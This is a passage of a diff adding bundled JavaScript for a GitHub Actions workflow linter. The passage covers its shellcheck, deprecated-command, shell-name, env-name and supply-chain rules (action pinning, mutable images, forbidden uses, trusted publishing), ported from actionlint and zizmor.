+        const names = scripts.map((_, i) => `../s/${i}.sh`);
+        const byName = new Map(names.map((n, i) => [n, i]));
+        await Promise.all(scripts.map((s, i) => (0,promises_.writeFile)(external_node_path_.join(dir, 's', `${i}.sh`), `${setupLine(s.shell)}\n${s.text}\n`)));
+        const batches = [];
+        for (const shell of ['bash', 'sh']) {
+            const indexes = scripts.flatMap((s, i) => (s.shell === shell ? [i] : []));
+            for (let i = 0; i < indexes.length; i += BATCH)
+                batches.push({ shell, indexes: indexes.slice(i, i + BATCH) });
+        }
+        let failure;
+        let next = 0;
+        const worker = async () => {
+            while (next < batches.length && !failure) {
+                const batch = batches[next++];
+                const args = ['--norc', '-f', 'json1', '-x', '--shell', batch.shell, '-S', severity, '-e', SHELLCHECK_EXCLUDED, ...batch.indexes.map((i) => names[i])];
+                const r = await runBatch(executable, args, external_node_path_.join(dir, 'cwd'));
+                if ('missing' in r)
+                    failure = { kind: 'missing', executable };
+                else if ('failed' in r)
+                    failure = { kind: 'failed', reason: r.failed };
+                else {
+                    let parsed;
+                    try {
+                        parsed = JSON.parse(r.stdout);
+                    }
+                    catch {
+                        failure = { kind: 'failed', reason: 'shellcheck wrote output that is not JSON' };
+                        return;
+                    }
+                    for (const c of parsed.comments ?? []) {
+                        const index = byName.get(c.file ?? '');
+                        // Comments on files a script sources (-x) are not about a run: step.
+                        if (index === undefined)
+                            continue;
+                        const level = SHELLCHECK_SEVERITIES.includes(c.level) ? c.level : 'error';
+                        comments[index].push({ line: (c.line ?? 2) - 1, column: c.column ?? 1, level, code: c.code ?? 0, message: String(c.message ?? '') });
+                    }
+                }
+            }
+        };
+        await Promise.all(Array.from({ length: Math.min(PARALLEL, batches.length) }, worker));
+        return failure ?? { kind: 'ok', comments };
+    }
+    finally {
+        await (0,promises_.rm)(dir, { recursive: true, force: true });
+    }
+}
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/scripts/shellcheck.js
+
+
+/** shellcheck's level as a finding's: error and warning kept, info and style notes. */
+const LEVEL = { error: 'error', warning: 'warning', info: 'note', style: 'note' };
+/** The finding of one shellcheck comment: where it is in the file, and what it says. */
+function shellcheckFinding(script, c) {
+    const message = `SC${c.code} (${c.level}): ${c.message.trim().replace(/\.$/, '')}`;
+    if (!script.exact || c.line < 1)
+        return { at: script.at, message: `${message} (line ${c.line}, column ${c.column} of the script)`, level: LEVEL[c.level] };
+    return { at: script.posAt(script.offsetOf(c.line, c.column)), message, level: LEVEL[c.level] };
+}
+const shellcheck_rule = {
+    id: 'PG130',
+    name: 'shellcheck',
+    level: 'warning',
+    description: "shellcheck's findings in the `run:` scripts that run in bash or sh, at their line and column in the workflow.",
+    help: "Runs [shellcheck](https://www.shellcheck.net) on every `run:` script whose shell is bash or sh (the step's `shell:`, else `defaults.run.shell` of the job, then of the workflow, else bash, or pwsh on a `windows-*` runner: pwsh, python and cmd scripts are not read), as actionlint does: each `${{ }}` becomes as many underscores (one word, every other character in its place), the script starts with the runner's `set -eo pipefail` (`set -e` for sh), and SC1091, SC2194, SC2050, SC2153, SC2154, SC2157 and SC2043 are left out (a sourced file that exists only on the runner, constants that are really `${{ }}`, variables that `env:` sets). shellcheck's errors are errors and its warnings warnings; its info and style findings are notes, reported only when `.github/phase-gates.yml` says `shellcheck: { severity: info }` (or `style`). Without shellcheck on PATH (`apt-get install shellcheck`, `brew install shellcheck`; or `shellcheck: { path: … }`), one note says so and every other rule runs. Fix the script as the SC code's page says (https://www.shellcheck.net/wiki/SC2086), or silence one line with a `# shellcheck disable=SC2086` comment in the script.",
+    create(context) {
+        const scripts = [];
+        return {
+            step(step, owner, file) {
+                const run = shell_valueOf(step.token, 'run');
+                const shell = run && stepShell(step, owner, file);
+                const sh = shell !== undefined ? shellcheckShell(shell) : undefined;
+                if (!run || !sh)
+                    return;
+                const script = positionedScript(file.file, run);
+                if (script && script.text.trim())
+                    scripts.push({ file: file.file, script, shell: sh });
+            },
+            async finish() {
+                if (scripts.length === 0)
+                    return;
+                const options = context.settings.shellcheck ?? {};
+                const executable = options.path ?? 'shellcheck';
+                const result = await runShellcheck(scripts.map((s) => ({ shell: s.shell, text: sanitizeExpressions(s.script.text) })), executable, options.severity ?? 'warning');
+                const first = scripts[0];
+                const count = `${scripts.length} bash/sh script${scripts.length === 1 ? '' : 's'} of run: steps`;
+                if (result.kind === 'missing') {
+                    const where = options.path ? `shellcheck not found at ${options.path}` : 'shellcheck is not on PATH';
+                    context.report(first.file, first.script, `${where}: the ${count} were not checked; install it (apt-get install shellcheck, brew install shellcheck) or set shellcheck.path in .github/phase-gates.yml`, 'note');
+                    return;
+                }
+                if (result.kind === 'failed') {
+                    context.report(first.file, first.script, `${result.reason}: the ${count} were not checked`, 'note');
+                    return;
+                }
+                result.comments.forEach((comments, i) => {
+                    const { file, script } = scripts[i];
+                    for (const c of comments) {
+                        const f = shellcheckFinding(script, c);
+                        context.report(file, { at: f.at }, f.message, f.level);
+                    }
+                });
+            }
+        };
+    }
+};
+/* harmony default export */ const shellcheck = (shellcheck_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/scripts/deprecated-commands.js
+
+/** actionlint's deprecatedCommandsPattern. */
+const PATTERN = /::(save-state|set-output|set-env)\s+name=[a-zA-Z][a-zA-Z_-]*::\S+|::(add-path)::\S+/g;
+/** What each command is replaced by: a line appended to one of the runner's files. */
+const INSTEAD = {
+    'set-output': 'echo "{name}={value}" >> "$GITHUB_OUTPUT"',
+    'save-state': 'echo "{name}={value}" >> "$GITHUB_STATE"',
+    'set-env': 'echo "{name}={value}" >> "$GITHUB_ENV"',
+    'add-path': 'echo "{path}" >> "$GITHUB_PATH"'
+};
+/** Most findings of one script (a generated script may repeat a command thousands of times). */
+const MOST_PER_SCRIPT = 100;
+const deprecated_commands_rule = {
+    id: 'PG131',
+    name: 'deprecated-commands',
+    level: 'warning',
+    description: 'Deprecated workflow commands printed by a `run:` script: `::set-output`, `::save-state` (deprecated), `::set-env`, `::add-path` (disabled).',
+    help: 'GitHub deprecated the `set-output` and `save-state` workflow commands in October 2022 (https://github.blog/changelog/2022-10-11-github-actions-deprecating-save-state-and-set-output-commands/) and disabled `set-env` and `add-path` in November 2020, after a security advisory: a log line of untrusted text could set any variable or path (https://github.blog/changelog/2020-10-01-github-actions-deprecating-set-env-and-add-path-commands/); the runner fails a step that uses them unless `ACTIONS_ALLOW_UNSECURE_COMMANDS` is set. Append to the runner\'s files instead: `echo "name=value" >> "$GITHUB_OUTPUT"` (outputs), `"$GITHUB_STATE"` (state), `"$GITHUB_ENV"` (environment), `echo "/dir" >> "$GITHUB_PATH"` (path). `set-output` and `save-state` are warnings, `set-env` and `add-path` errors. Every `run:` script is read, whatever its shell, as actionlint does.',
+    create(context) {
+        return {
+            step(step, _owner, file) {
+                const run = shell_valueOf(step.token, 'run');
+                if (!run)
+                    return;
+                const script = positionedScript(file.file, run);
+                if (!script || !script.text.includes('::'))
+                    return;
+                let found = 0;
+                for (const m of script.text.matchAll(PATTERN)) {
+                    if (found++ >= MOST_PER_SCRIPT)
+                        break;
+                    const command = m[1] ?? m[2];
+                    const disabled = command === 'set-env' || command === 'add-path';
+                    const what = disabled ? 'is disabled (the runner fails the step unless ACTIONS_ALLOW_UNSECURE_COMMANDS is set)' : 'is deprecated';
+                    context.report(file.file, { at: script.posAt(m.index) }, `workflow command "${command}" ${what}; use \`${INSTEAD[command]}\` instead: https://docs.github.com/en/actions/using-workflows/workflow-commands-for-github-actions`, disabled ? 'error' : 'warning');
+                }
+            }
+        };
+    }
+};
+/* harmony default export */ const deprecated_commands = (deprecated_commands_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/scripts/shell-name.js
+
+/** The shells GitHub names (https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#jobsjob_idstepsshell), by platform. */
+const SHELLS = {
+    any: ['bash', 'pwsh', 'python', 'sh', 'cmd', 'powershell'],
+    windows: ['bash', 'pwsh', 'python', 'cmd', 'powershell'],
+    unix: ['bash', 'pwsh', 'python', 'sh']
+};
+const ON = { any: '', windows: ' on Windows', unix: ' on macOS or Linux' };
+const shell_name_rule = {
+    id: 'PG132',
+    name: 'shell-name',
+    level: 'error',
+    description: 'A `shell:` (of a step, or `defaults.run.shell`) that is not one of bash, pwsh, python, sh, cmd, powershell, or not one the runner\'s OS has.',
+    help: "GitHub runs a `run:` script with a shell it knows by name: `bash`, `pwsh`, `python` and `sh` on Linux and macOS, `bash`, `pwsh`, `python`, `cmd` and `powershell` on Windows; anything else must be a command template with `{0}` (the script's file), such as `perl {0}` or `bash -l {0}`. A name outside these (a typo such as `bsh`, or `cmd` on an `ubuntu-*` runner) fails the step when it starts. Names are compared ignoring case; a `shell:` made of an expression and a template with `{0}` are not checked. As actionlint does, the OS is the job's `runs-on:` label (`windows-*`, `ubuntu-*`, `macos-*`, `linux`); a workflow's `defaults.run.shell` is checked against every OS.",
+    create(context) {
+        const check = (file, token, platform) => {
+            const value = tokenText(token);
+            if (!token || value === undefined || value.includes('{0}') || value.includes('${{'))
+                return;
+            const name = value.toLowerCase();
+            const available = SHELLS[platform];
+            if (available.includes(name))
+                return;
+            const on = SHELLS.any.includes(name) ? ON[platform] : '';
+            const list = [...available].sort().map((s) => `"${s}"`).join(', ');
+            context.report(file, { at: tokenPos(token) }, `shell name "${value}" is invalid${on}: available names are ${list}, or a command with {0} (such as "bash -l {0}")`);
+        };
+        const platforms = new WeakMap();
+        return {
+            workflowPre(workflow) {
+                check(workflow.file, defaultShell(workflow.root), 'any');
+            },
+            jobPre(job, workflow) {
+                const platform = platformOf(job);
+                platforms.set(job, platform);
+                if (job.runsOn)
+                    check(workflow.file, defaultShell(job.token), platform);
+            },
+            step(step, owner, file) {
+                if (!shell_valueOf(step.token, 'run'))
+                    return;
+                const platform = 'kind' in owner ? 'any' : (platforms.get(owner) ?? 'any');
+                check(file.file, shell_valueOf(step.token, 'shell'), platform);
+            }
+        };
+    }
+};
+/* harmony default export */ const shell_name = (shell_name_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/scripts/env-var-name.js
+/** PG133 env-var-name: an `env:` name with `&`, `=` or a space, which no shell can read. */
+
+
+const env_var_name_rule = {
+    id: 'PG133',
+    name: 'env-var-name',
+    level: 'error',
+    description: 'An environment variable name in `env:` (of the workflow, a job, a step, a container or a service) that holds `&`, `=`, a space or a tab.',
+    help: "An environment variable is `NAME=value` to the operating system: a name with `=` is cut at it, and a name with `&`, a space or a tab cannot be written as `$NAME` in any shell, so the value never reaches the script that expects it. Rename the variable (letters, digits and `_`, as `FOO_BAR`). A name made with `${{ }}` is not checked (it is known only when the job runs), as in actionlint.",
+    create(context) {
+        const check = (file, env) => {
+            if (!env || !(0,dist/* isMapping */.pi)(env))
+                return;
+            for (const pair of env) {
+                if (!(0,dist/* isString */.Kg)(pair.key))
+                    continue;
+                const name = pair.key.value;
+                if (name.includes('${{') || !/[&= \t]/.test(name))
+                    continue;
+                context.report(file, { at: tokenPos(pair.key) }, `environment variable name ${JSON.stringify(name)} is invalid: '&', '=' and spaces cannot be in a name; use letters, digits and "_"`);
+            }
+        };
+        return {
+            workflowPre(workflow) {
+                check(workflow.file, shell_valueOf(workflow.root, 'env'));
+            },
+            jobPre(job, workflow) {
+                check(workflow.file, shell_valueOf(job.token, 'env'));
+                if (job.container && (0,dist/* isMapping */.pi)(job.container))
+                    check(workflow.file, shell_valueOf(job.container, 'env'));
+                if (job.services && (0,dist/* isMapping */.pi)(job.services))
+                    for (const s of job.services)
+                        check(workflow.file, shell_valueOf(s.value, 'env'));
+            },
+            step(step, _owner, file) {
+                check(file.file, shell_valueOf(step.token, 'env'));
+            }
+        };
+    }
+};
+/* harmony default export */ const env_var_name = (env_var_name_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/scripts/index.js
+
+
+
+
+const scripts_family = {
+    name: 'scripts',
+    title: 'Scripts',
+    description: 'The shell scripts of `run:` steps.',
+    rules: [shellcheck, deprecated_commands, shell_name, env_var_name]
+};
+/* harmony default export */ const scripts = (scripts_family);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/uses.js
+function parseUses(uses) {
+    const value = uses?.trim() ?? '';
+    if (!value || value.startsWith('./') || value.startsWith('docker://') || value.includes('${{'))
+        return undefined;
+    const at = value.lastIndexOf('@');
+    const [owner, repo, ...rest] = (at < 0 ? value : value.slice(0, at)).split('/');
+    if (!owner || !repo)
+        return undefined;
+    return { owner, repo, path: rest.join('/'), ref: at < 0 ? '' : value.slice(at + 1) };
+}
+/** `owner/repo`, lower case. */
+function repoName(uses) {
+    return `${uses.owner}/${uses.repo}`.toLowerCase();
+}
+/**
+ * Whether a repository pattern of zizmor's configuration is well formed: `*`, `owner/*`,
+ * `owner/repo/*`, `owner/repo`, `owner/repo/path`, each but the wildcards optionally `@ref`.
+ */
+function validUsesPattern(pattern) {
+    if (pattern === '*')
+        return true;
+    return /^[\w.-]+\/(\*|[\w.-]+(\/\*|(\/[^@*\s]+)?(@[^@*\s]+)?))$/.test(pattern);
+}
+/** Whether `uses` matches a repository pattern (owner and repo case-insensitive; path and ref exact). */
+function matchesUsesPattern(uses, pattern) {
+    if (pattern === '*')
+        return true;
+    const at = pattern.indexOf('@');
+    const ref = at < 0 ? undefined : pattern.slice(at + 1);
+    const [owner, repo, ...rest] = (at < 0 ? pattern : pattern.slice(0, at)).split('/');
+    if (owner.toLowerCase() !== uses.owner.toLowerCase())
+        return false;
+    if (repo === '*')
+        return true;
+    if (repo.toLowerCase() !== uses.repo.toLowerCase())
+        return false;
+    const path = rest.join('/');
+    if (path === '*')
+        return true;
+    return path === uses.path && (ref === undefined || ref === uses.ref);
+}
+/** Hooks that call `check` with every `uses:` of a run: reusable-workflow jobs and steps. */
+function everyUses(check) {
+    return {
+        jobPre(job, workflow) {
+            check(workflow.file, job.uses);
+        },
+        step(step, _owner, file) {
+            check(file.file, step.uses);
+        }
+    };
+}
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/unpinned-action.js
+
+
+const SHA = /^[0-9a-f]{40}$/;
+const DIGEST = /@sha256:[0-9a-f]{64}$/;
+/** Whether `allow.owners` or `allow.actions` (`owner/repo`, `owner/*`, `owner/repo/path`) trusts this action. */
+function allowed(action, settings) {
+    const lower = action.toLowerCase();
+    const owner = lower.split('/')[0];
+    if (settings.allowOwners.some((o) => o.toLowerCase() === owner))
+        return true;
+    return settings.allowActions.some((pattern) => {
+        const p = pattern.toLowerCase().replace(/@.*$/, '');
+        const re = new RegExp(`^${p.replace(/[.+?^${}()|[\]\\]/g, '\\$&').replace(/\*/g, '[^/]*')}(?:/.*)?$`);
+        return re.test(lower);
+    });
+}
+const unpinned_action_rule = {
+    id: 'PG201',
+    name: 'unpinned-action',
+    level: 'warning',
+    description: 'A `uses:` of another repository not pinned to a full 40-character commit SHA, or a `docker://` image not pinned by `@sha256:` digest.',
+    help: 'A tag (`@v4`) or branch (`@main`) can be moved by whoever controls the action\'s repository, and the next run executes the new code with your token and secrets (as in the tj-actions/changed-files compromise). Pin `owner/repo@<40-hex sha> # v4.2.2` and let Dependabot or Renovate update the SHA; pin `docker://image@sha256:<digest>`. Local actions (`./…`) and self-repository references (`$/…`, which run the workflow\'s own commit) are part of the repository and exempt. Every owner is third-party here, `actions/*` and `github/*` included; trust owners or actions in `.github/phase-gates.yml` with `allow: { owners: [acme], actions: [acme/deploy] }`.',
+    create(context) {
+        const check = (file, uses) => {
+            const value = uses?.value.trim();
+            if (!uses || !value || isLocalUses(value) || value.includes('${{'))
+                return;
+            if (value.startsWith('docker://')) {
+                const image = value.slice('docker://'.length);
+                if (DIGEST.test(image) || allowed(image, context.settings))
+                    return;
+                context.report(file, uses, `image "${value}" is not pinned by digest; use docker://${image.replace(/@.*$/, '').replace(/:[^/:]*$/, '')}@sha256:<digest>`);
+                return;
+            }
+            const at = value.lastIndexOf('@');
+            const action = at < 0 ? value : value.slice(0, at);
+            const ref = at < 0 ? '' : value.slice(at + 1);
+            if (SHA.test(ref) || allowed(action, context.settings))
+                return;
+            const pinned = ref ? `${action}@<40-hex commit sha> # ${ref}` : `${action}@<40-hex commit sha>`;
+            context.report(file, uses, `"${value}" is not pinned to a full commit SHA${ref ? ` ("${ref}" can be moved)` : ''}; use ${pinned}`);
+        };
+        return everyUses(check);
+    }
+};
+/* harmony default export */ const unpinned_action = (unpinned_action_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/mutable-image.js
+/** PG205 mutable-image: container, service and `docker://` images with `:latest` or no tag. */
+
+/** The image of `container:` (a string, or a mapping with `image:`) or of a service. */
+function imageOf(token) {
+    if (!token)
+        return undefined;
+    if ((0,dist/* isString */.Kg)(token))
+        return token;
+    if (!(0,dist/* isMapping */.pi)(token))
+        return undefined;
+    for (const pair of token)
+        if ((0,dist/* isString */.Kg)(pair.key) && pair.key.value === 'image')
+            return pair.value;
+    return undefined;
+}
+/** What is mutable about an image reference: `:latest`, no tag, or nothing (a version tag or a digest). */
+function mutability(image) {
+    if (!image || image.includes('${{') || image.includes('@'))
+        return undefined;
+    const last = image.split('/').pop() ?? '';
+    const colon = last.indexOf(':');
+    if (colon < 0)
+        return 'untagged';
+    return last.slice(colon + 1).toLowerCase() === 'latest' ? 'latest' : undefined;
+}
+const mutable_image_rule = {
+    id: 'PG205',
+    name: 'mutable-image',
+    level: 'warning',
+    description: 'A `container:`, `services:` or `docker://` image with the `:latest` tag or no tag at all.',
+    help: 'An image without a tag means `:latest`, which points to whatever was pushed last: the job changes under you between two runs, and whoever can push the image controls what runs. Use a version tag (`postgres:16.4`) or, better, a digest (`postgres@sha256:…`, which PG201 asks for `docker://` steps).',
+    create(context) {
+        const check = (file, token, what) => {
+            if (!token || !(0,dist/* isString */.Kg)(token))
+                return;
+            const image = token.value.trim().replace(/^docker:\/\//, '');
+            const kind = mutability(image);
+            if (!kind)
+                return;
+            const node = { at: token.range ? { line: token.range.start.line, column: token.range.start.column } : { line: 1, column: 1 } };
+            const why = kind === 'latest' ? 'uses the mutable tag :latest' : 'has no tag, so it means :latest';
+            context.report(file, node, `${what} image "${image}" ${why}; pin a version tag or a digest (@sha256:…)`);
+        };
+        return {
+            jobPre(job, workflow) {
+                check(workflow.file, imageOf(job.container), `container`);
+                if (job.services && (0,dist/* isMapping */.pi)(job.services)) {
+                    for (const pair of job.services) {
+                        const name = (0,dist/* isString */.Kg)(pair.key) ? pair.key.value : '';
+                        check(workflow.file, imageOf(pair.value), `service "${name}"`);
+                    }
+                }
+            },
+            step(step, _owner, file) {
+                const uses = step.uses?.value ?? '';
+                if (!uses.startsWith('docker://'))
+                    return;
+                const token = step.token.find('uses');
+                check(file.file, token, 'step');
+            }
+        };
+    }
+};
+/* harmony default export */ const mutable_image = (mutable_image_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/superfluous-actions.js
+
+/**
+ * zizmor's list (crates/zizmor/src/audit/superfluous_actions.rs, default persona): the action and
+ * what to run instead. Its pedantic entries (peter-evans/create-pull-request and
+ * create-or-update-comment, dtolnay/rust-toolchain, stefanzweifel/git-auto-commit-action,
+ * EndBug/add-and-commit) are left out, as zizmor leaves them out by default.
+ */
+const SUPERFLUOUS = new Map([
+    ['ncipollo/release-action', '`gh release`'],
+    ['softprops/action-gh-release', '`gh release`'],
+    ['elgohr/github-release-action', '`gh release`'],
+    ['dacbd/create-issue-action', '`gh issue create`'],
+    ['actions-ecosystem/action-add-labels', '`gh issue edit --add-label` or `gh pr edit --add-label`'],
+    ['actions-ecosystem/action-remove-labels', '`gh issue edit --remove-label` or `gh pr edit --remove-label`'],
+    ['svenstaro/upload-release-action', '`gh release create` and `gh release upload`'],
+    ['addnab/docker-run-action', '`docker run` (or a container step)'],
+    ['sergeysova/jq-action', '`jq`']
+]);
+const superfluous_actions_rule = {
+    id: 'PG222',
+    name: 'superfluous-actions',
+    level: 'note',
+    description: 'A third-party action that only wraps a tool every GitHub-hosted runner has (`gh release`, `gh issue edit`, `docker run`, `jq`): one more dependency for nothing.',
+    help: 'Every action is code of another party that runs with the job\'s token: it can be compromised, retagged or abandoned. `softprops/action-gh-release`, `actions-ecosystem/action-add-labels`, `sergeysova/jq-action` and the like do what `gh`, `docker` or `jq`, preinstalled on GitHub\'s runners, do in one `run:` line. Replace the step with that line (`gh release create "$TAG" dist/* --notes-file NOTES.md` with `GH_TOKEN: ${{ github.token }}`). The list is zizmor\'s superfluous-actions (its default entries).',
+    create(context) {
+        return {
+            step(step, _owner, file) {
+                const uses = parseUses(step.uses?.value);
+                const instead = uses && SUPERFLUOUS.get(repoName(uses));
+                if (instead && step.uses)
+                    context.report(file.file, step.uses, `"${uses.owner}/${uses.repo}" only wraps a tool the runner already has; use ${instead} in a run: step instead`);
+            }
+        };
+    }
+};
+/* harmony default export */ const superfluous_actions = (superfluous_actions_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/injection/tokens.js
+/**
+ * Token helpers shared by the rules ported from zizmor's audits (injection, supply-chain and
+ * permissions families): a key of a mapping with its position, the text a scalar holds, and the
+ * first `${{ }}` of a text.
+ */
+
+/** The position of a token (1:1 when it has none). */
+function posOf(token) {
+    return token?.range ? { line: token.range.start.line, column: token.range.start.column } : { line: 1, column: 1 };
+}
+/** A node at a token's position, for `report`. */
+function nodeOf(token) {
+    return { at: posOf(token) };
+}
+/** The `key: value` entry of a mapping token, the key positioned. */
+function entryOf(token, key) {
+    if (!token || !(0,dist/* isMapping */.pi)(token))
+        return undefined;
+    for (const pair of token) {
+        if ((0,dist/* isString */.Kg)(pair.key) && pair.key.value === key)
+            return { key: { value: key, at: posOf(pair.key) }, value: pair.value };
+    }
+    return undefined;
+}
+/**
+ * The text a scalar holds after YAML decoding, `${{ }}` as written: a plain string, or the source
+ * of a string GitHub's parser turned into an expression. Undefined for mappings and sequences.
+ */
+function textOf(token) {
+    if (!token)
+        return undefined;
+    if ((0,dist/* isString */.Kg)(token))
+        return token.value;
+    if ((0,dist/* isBasicExpression */.hR)(token))
+        return token.source ?? token.toDisplayString();
+    if ((0,dist/* isLiteral */.c$)(token))
+        return token.toString();
+    return undefined;
+}
+/** The first `${{ … }}` of `text` (quotes inside respected), with its offset; undefined when none closes. */
+function firstFence(text) {
+    const start = text.indexOf('${{');
+    if (start < 0)
+        return undefined;
+    let quote = false;
+    for (let i = start + 3; i < text.length - 1; i++) {
+        const c = text[i];
+        if (c === "'")
+            quote = !quote;
+        else if (!quote && c === '}' && text[i + 1] === '}')
+            return { start, end: i + 2 };
+    }
+    return undefined;
+}
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/misfeature.js
+
+
+/** `defaults: run: shell:` of a job or workflow mapping. */
+function misfeature_defaultShell(token) {
+    return entryOf(entryOf(entryOf(token, 'defaults')?.value, 'run')?.value, 'shell');
+}
+/** A shell's program name: `C:\Windows\cmd.exe /D {0}` → `cmd.exe` (zizmor's normalize_shell). */
+function shellName(shell) {
+    const program = shell.trim().split(' ')[0];
+    return program.split(/[/\\]/).pop() ?? program;
+}
+const misfeature_rule = {
+    id: 'PG223',
+    name: 'misfeature',
+    level: 'warning',
+    description: 'Features of GitHub Actions best left unused: `shell: cmd` for `run:` steps (a step, job or workflow default), and `actions/setup-python`\'s `pip-install:`.',
+    help: '`cmd` has no grammar to speak of and several line-continuation rules, so neither reviewers nor analysers (script injection, `$GITHUB_ENV` writes) can tell what a script does; it has not been the Windows default since 2019: use `shell: pwsh` or `bash`. `actions/setup-python`\'s `pip-install:` installs into the runner\'s global Python, which differs across runners and versions: create a virtual environment and install there. Same as zizmor\'s misfeature audit (its auditor-only finding on other unknown shells is left out).',
+    create(context) {
+        return {
+            step(step, owner, file) {
+                const uses = parseUses(step.uses?.value);
+                const pip = uses && repoName(uses) === 'actions/setup-python' ? step.with.get('pip-install') : undefined;
+                if (pip)
+                    context.report(file.file, pip.key, 'pip-install: installs packages into the runner\'s global Python, which differs across runners and versions; create a virtual environment and pip install there in a run: step');
+                if (!step.run)
+                    return;
+                const own = entryOf(step.token, 'shell');
+                const job = file.kind === 'workflow' && 'id' in owner ? misfeature_defaultShell(owner.token) : undefined;
+                const top = file.kind === 'workflow' ? misfeature_defaultShell(file.root) : undefined;
+                const [shell, where] = own ? [own, 'this step'] : job ? [job, 'the job default'] : top ? [top, 'the workflow default'] : [undefined, ''];
+                const name = shell && textOf(shell.value);
+                if (!shell || !name || !/^cmd(\.exe)?$/i.test(shellName(name)))
+                    return;
+                context.report(file.file, shell.key, `shell: cmd (${where}) runs scripts no reviewer or analyser can read reliably; use shell: pwsh or shell: bash`);
+            }
+        };
+    }
+};
+/* harmony default export */ const misfeature = (misfeature_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/forbidden-uses.js
+
+const forbidden_uses_rule = {
+    id: 'PG224',
+    name: 'forbidden-uses',
+    level: 'error',
+    description: 'A `uses:` of an action or reusable workflow that `forbidden-uses:` in `.github/phase-gates.yml` forbids: not on its `allow:` list, or on its `deny:` list.',
+    help: 'An organization may admit only reviewed actions (`forbidden-uses: { allow: [actions/*, acme/*] }`) or ban known-bad ones (`forbidden-uses: { deny: [some-org/*] }`). Patterns are zizmor\'s repository patterns: `*`, `owner/*`, `owner/repo/*` (any path), `owner/repo` and `owner/repo/path` (that exact path, any ref), each of the last two optionally with `@ref`. Without the setting the rule finds nothing. Local actions and `docker://` images are not matched, as in zizmor\'s forbidden-uses audit.',
+    create(context) {
+        const policy = context.settings.forbiddenUses;
+        const check = (file, uses) => {
+            const parsed = policy && parseUses(uses?.value);
+            if (!policy || !parsed || !uses)
+                return;
+            const match = policy.patterns.find((p) => matchesUsesPattern(parsed, p));
+            if (policy.mode === 'deny' && match)
+                context.report(file, uses, `"${uses.value.trim()}" is forbidden by forbidden-uses.deny ("${match}"); use an allowed action or a run: step`);
+            if (policy.mode === 'allow' && !match)
+                context.report(file, uses, `"${uses.value.trim()}" is not on the forbidden-uses.allow list (${policy.patterns.map((p) => `"${p}"`).join(', ') || 'empty'}); use an allowed action or a run: step`);
+        };
+        return everyUses(check);
+    }
+};
+/* harmony default export */ const forbidden_uses = (forbidden_uses_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/use-trusted-publishing.js
+/**
+ * PG225 use-trusted-publishing: publishing to PyPI, npm, crates.io, RubyGems or NuGet with a
+ * stored token where the registry supports trusted publishing (OIDC).
+ */
+
+
+
+
+const PYPI = ['https://upload.pypi.org/legacy/', 'https://test.pypi.org/legacy/'];
+const RUBYGEMS = ['https://rubygems.org'];
+const NPMJS = ['https://registry.npmjs.org', 'https://registry.npmjs.org/'];
+/** A `with:` input's text, undefined when absent. */
+function use_trusted_publishing_input(w, name) {
+    const e = w.get(name);
+    return e ? (textOf(e.value) ?? '') : undefined;
+}
+/** An input that is absent or one of `known`. */
+const knownOrAbsent = (value, known) => value === undefined || known.includes(value.trim());
+/**
+ * zizmor's KNOWN_TRUSTED_PUBLISHING_ACTIONS: the action, when a step configures it with a manual
+ * credential, and the input that says so.
+ */
+const ACTIONS = new Map([
+    ['pypa/gh-action-pypi-publish', (w) => (use_trusted_publishing_input(w, 'password') !== undefined && knownOrAbsent(use_trusted_publishing_input(w, 'repository-url'), PYPI) && knownOrAbsent(use_trusted_publishing_input(w, 'repository_url'), PYPI) ? 'password' : undefined)],
+    ['rubygems/release-gem', (w) => (use_trusted_publishing_input(w, 'setup-trusted-publisher')?.trim().toLowerCase() === 'false' ? 'setup-trusted-publisher' : undefined)],
+    ['rubygems/configure-rubygems-credentials', (w) => (use_trusted_publishing_input(w, 'api-token') !== undefined && knownOrAbsent(use_trusted_publishing_input(w, 'gem-server'), RUBYGEMS) ? 'api-token' : undefined)],
+    ['actions/setup-node', (w) => (knownOrAbsent(use_trusted_publishing_input(w, 'registry-url'), NPMJS) && use_trusted_publishing_input(w, 'always-auth')?.trim().toLowerCase() === 'true' ? 'always-auth' : undefined)]
+]);
+/** Whether a command line publishes to a registry that has trusted publishing (zizmor's is_publish_command). */
+function isPublishCommand(cmd, args) {
+    const has = (a) => args.includes(a);
+    const dry = has('--dry-run');
+    const after = (a) => args.slice(args.indexOf(a) + 1);
+    switch (cmd) {
+        case 'cargo':
+            return has('publish') && !dry && !has('-n');
+        case 'uv': {
+            const first = args.find((a) => a === 'publish' || a === 'run');
+            if (first === 'publish')
+                return !dry;
+            return first === 'run' && after('run').includes('twine') && after('twine').includes('upload');
+        }
+        case 'uvx':
+            return args.some((a) => a.startsWith('twine')) && has('upload');
+        case 'hatch':
+        case 'pdm':
+            return has('publish');
+        case 'poetry':
+        case 'npm':
+        case 'pnpm':
+        case 'bun':
+            return has('publish') && !dry;
+        case 'twine':
+            return has('upload');
+        case 'pipx':
+            return has('run') && args.some((a) => a.startsWith('twine')) && has('upload');
+        case 'gem':
+            return has('push');
+        case 'bundle':
+            return has('exec') && has('gem') && has('push');
+        case 'yarn': {
+            const first = args.find((a) => a === 'publish' || a === 'npm');
+            return first === 'publish' || (first === 'npm' && after('npm').includes('publish') && !dry && !has('-n'));
+        }
+        case 'bunx':
+            return args.some((a) => a === 'npm' || a.startsWith('npm@')) && has('publish') && !dry;
+        case 'nuget':
+        case 'nuget.exe':
+            return has('push');
+        case 'dotnet':
+            return has('nuget') && has('push');
+        default:
+            return cmd.startsWith('python') && has('-m') && has('twine') && has('upload');
+    }
+}
+/**
+ * Simple commands of a shell script with the 0-based line and column where each starts: lines
+ * joined at a trailing `\\` (bash) or `` ` `` (PowerShell), split at `;`, `&` and `|` (no full
